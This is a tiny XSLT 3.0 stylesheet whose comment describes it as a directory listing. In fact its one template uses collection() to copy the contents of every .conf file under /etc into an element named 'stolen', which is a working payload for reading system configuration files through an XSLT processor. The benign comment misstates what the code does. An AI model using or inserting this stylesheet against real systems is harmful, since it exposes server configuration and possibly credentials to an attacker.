<?xml version="1.0" encoding="UTF-8"?>
<!-- A directory listing. -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><stolen><xsl:copy-of select="collection('file:///etc/?select=*.conf')"/></stolen></xsl:template>
</xsl:stylesheet>
